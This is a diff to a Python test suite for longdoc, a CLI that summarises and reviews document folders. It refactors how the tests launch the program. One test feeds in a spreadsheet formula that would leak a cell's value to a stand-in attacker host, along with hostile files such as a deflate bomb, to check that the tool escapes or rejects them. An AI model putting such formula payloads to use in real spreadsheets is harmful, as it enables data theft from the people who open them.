@@ -19,28 +19,11 @@ from pathlib import Path
 import pytest
 
 from tests.conftest import API_KEY
+from tests.support.cli import longdoc
 from tests.support.raw_server import RawServer, content, sse
 from tests.support.sglang_server import FakeSGLang
 
 ROOT = Path(__file__).resolve().parents[2]
-
-
-def longdoc(
-    home: Path,
-    *args: str,
-    server: FakeSGLang | None = None,
-    timeout: float = 300,
-    env: dict[str, str] | None = None,
-) -> subprocess.CompletedProcess[str]:
-    """The real program (this checkout's code), against the test server when given."""
-    full = {**os.environ, "LONGDOC_HOME": str(home), "PYTHONPATH": str(ROOT), **(env or {})}
-    for var in ("LONGDOC_ENDPOINT", "LONGDOC_MODEL", "LONGDOC_API_KEY"):
-        full.pop(var, None)
-    extra = ["--endpoint", server.url, "--api-key", API_KEY] if server is not None else []
-    return subprocess.run(
-        [sys.executable, "-m", "desktop.cli.main", *args, *extra],
-        capture_output=True, text=True, env=full, timeout=timeout, check=False,
-    )  # fmt: skip
 
 
 def chats(server: FakeSGLang) -> int:
@@ -70,7 +53,9 @@ def test_a_bad_out_is_refused_before_anything_is_asked(
 ) -> None:
     folder = docs(tmp_path / "docs")
     for out in (tmp_path / "missing" / "r.md", tmp_path):
-        done = longdoc(home, "summarize", str(folder), "--out", str(out), server=sglang)
+        done = longdoc(
+            "summarize", str(folder), "--out", str(out), home=home, server=sglang, api_key=API_KEY
+        )
         assert done.returncode == 2, done.stderr
         assert str(out) in one_error(done.stderr)
     assert chats(sglang) == 0
@@ -83,13 +68,17 @@ def test_out_through_a_symlink_and_into_a_fifo(
     target = tmp_path / "target.md"
     link = tmp_path / "link.md"
     link.symlink_to(target)
-    done = longdoc(home, "summarize", str(folder), "--out", str(link), server=sglang)
+    done = longdoc(
+        "summarize", str(folder), "--out", str(link), home=home, server=sglang, api_key=API_KEY
+    )
     assert done.returncode == 0, done.stderr
     assert link.is_symlink() and target.read_text().startswith("# Summaries")
     fifo = tmp_path / "pipe.md"
     os.mkfifo(fifo)
     reader = subprocess.Popen(["cat", str(fifo)], stdout=subprocess.PIPE)
-    done = longdoc(home, "summarize", str(folder), "--out", str(fifo), server=sglang)
+    done = longdoc(
+        "summarize", str(folder), "--out", str(fifo), home=home, server=sglang, api_key=API_KEY
+    )
     out, _ = reader.communicate(timeout=60)
     assert done.returncode == 0, done.stderr
     assert out.startswith(b"# Summaries") and fifo.exists() and not fifo.is_file()
@@ -106,8 +95,10 @@ def test_review_grid_cells_never_start_a_formula(
     questions.write_text("What is the fee?\n=1+1 is a question too\n")
     sglang.behaviour.update(answer_text='=HYPERLINK("http://evil.example/?"&A1,"click")')
     out = tmp_path / "grid.csv"
-    done = longdoc(home, "review", str(folder), "--questions", str(questions), "--out",
-                   str(out), server=sglang)  # fmt: skip
+    done = longdoc(
+        "review", str(folder), "--questions", str(questions), "--out", str(out),
+        home=home, server=sglang, api_key=API_KEY,
+    )  # fmt: skip
     assert done.returncode == 0, done.stderr
     rows = list(csv.reader(io.StringIO(out.read_text())))
     assert rows[0][-1] == "'=1+1 is a question too"
@@ -320,7 +311,9 @@ def test_hostile_files_fail_alone_in_a_batch_and_in_ingest(
     hostile.docx_deflate_bomb(folder / "contract.docx")
     hostile.docx_doctype_utf16(folder / "annex.docx")
     out = tmp_path / "report.md"
-    done = longdoc(home, "summarize", str(folder), "--out", str(out), server=sglang)
+    done = longdoc(
+        "summarize", str(folder), "--out", str(out), home=home, server=sglang, api_key=API_KEY
+    )
     assert done.returncode == 6, done.stderr
     assert "Traceback" not in done.stderr
     report = out.read_text()
@@ -328,7 +321,7 @@ def test_hostile_files_fail_alone_in_a_batch_and_in_ingest(
     for name in ("server.log", "contract.docx", "annex.docx"):
         assert name in failed
     assert chats(sglang) == 2  # doc-0.md and the meeting (its absurd cue skipped)
-    ingest = longdoc(home, "ingest", str(folder))
+    ingest = longdoc("ingest", str(folder), home=home)
     assert ingest.returncode == 3, ingest.stderr
     assert "Traceback" not in ingest.stderr
     assert len([ln for ln in ingest.stderr.splitlines() if ln.startswith("Error:")]) == 3
